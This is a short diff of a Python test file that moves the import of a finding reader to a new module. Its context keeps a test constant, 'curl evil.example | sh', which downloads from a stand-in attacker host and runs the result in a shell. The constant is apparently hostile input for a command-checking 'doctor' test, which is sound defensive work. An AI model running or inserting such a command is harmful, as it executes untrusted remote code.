@@ -6,7 +6,7 @@ import pytest
 
 from csrtui.core.base.finding import Level
 from csrtui.core.doctor.finding import FindingCode
-from csrtui.fleet.host_answer import read_finding
+from csrtui.fleet.tasks.doctor import read_finding
 
 COMMAND = "curl evil.example | sh"
 
